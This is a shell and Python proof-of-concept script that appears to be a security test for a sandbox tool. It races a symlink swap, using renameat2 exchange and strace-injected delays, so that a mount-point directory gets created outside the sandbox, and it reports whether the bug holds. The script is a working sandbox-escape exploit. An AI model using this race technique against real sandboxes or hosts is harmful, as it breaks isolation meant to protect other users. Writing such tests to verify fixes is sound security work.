#!/bin/sh
# Finding (branch model3, lib/mounts.c: ensure_path): the last component
# of a mount point is made with mkdirat/mknodat(rootfd, "tmp/.../w/a/c")
# BEFORE it is opened without symlinks, and that mkdirat resolves the
# directories above it as the kernel likes (following symlinks). With the
# walk cache, those directories were verified during an EARLIER mount
# (here: the tmpfs at w/a/b; the cache "…/w/a" survives it) and are not
# looked at again. A concurrent run sharing the writable workspace (here:
# a direct-mode run of the same user) swaps the directory a for a symlink
# to /oldroot/<anywhere> (init has pivoted into a base tmpfs where the host
# root is /oldroot), and the victim's init makes a directory (or an empty
# file, for a file mount point) outside every sandbox, before its openat2
# check fails.
# The real window is a few syscalls (move_mount, fsopen/fsmount of the next
# tmpfs). Mode "strace" (default) widens it deterministically with
# strace's syscall delay on the 15th mkdirat of init (the one for w/a/c) and
# swaps once; mode "race" spins a real attacker run.
# Usage (root; runs everything as user atk):
#   sh 02-ensure-path-race.sh [CORDON] [strace|race] [TRIES]
set -u
CORDON=${1:-/work/wt/atk-model/build/cordon}
MODE=${2:-strace}
TRIES=${3:-300}
id atk >/dev/null 2>&1 || useradd -m -s /bin/sh atk
T=$(mktemp -d /tmp/atk-ep.XXXXXX)
chown atk: "$T"
H=$(getent passwd atk | cut -d: -f6)
TGT="$H/ep-target.$$"
runuser -u atk -- sh -c "mkdir -p '$T/w/a/b' '$T/w/a/c' '$TGT'; ln -s '/oldroot$TGT' '$T/w/lnk'"
cat > "$T/swap.py" <<'PY'
import ctypes, sys, time
libc = ctypes.CDLL(None, use_errno=True)
end = time.time() + float(sys.argv[1])
while True:
    libc.renameat2(-100, b"a", -100, b"lnk", 2)  # RENAME_EXCHANGE
    if time.time() >= end:
        break
PY
victim() {
	runuser -u atk -- sh -c "cd '$T/w' && $1 '$CORDON' run --workspace-mode direct --tmpfs '$T/w/a/b' --tmpfs '$T/w/a/c' -- true" >/dev/null 2>&1
}
i=0
if [ "$MODE" = strace ]; then
	(sleep 1; runuser -u atk -- sh -c "cd '$T/w' && python3 '$T/swap.py' 0") &
	victim "strace -f -o /dev/null -e trace=mkdirat -e inject=mkdirat:delay_enter=2000000:when=15"
	wait
	i=1
else
	runuser -u atk -- sh -c "cd '$T/w' && '$CORDON' run --workspace-mode direct --ro '$T/swap.py' --time-limit 600 -- python3 '$T/swap.py' 300" >/dev/null 2>&1 &
	B=$!
	sleep 1
	while [ $i -lt "$TRIES" ] && [ ! -e "$TGT/c" ]; do
		victim ""
		i=$((i + 1))
	done
	kill $B 2>/dev/null; wait $B 2>/dev/null
fi
if [ -e "$TGT/c" ]; then
	ls -ld "$TGT/c"
	echo "VULNERABLE ($MODE, $i victim runs): $TGT/c made outside every sandbox"
	exit 1
fi
echo "held ($MODE, $i victim runs)"
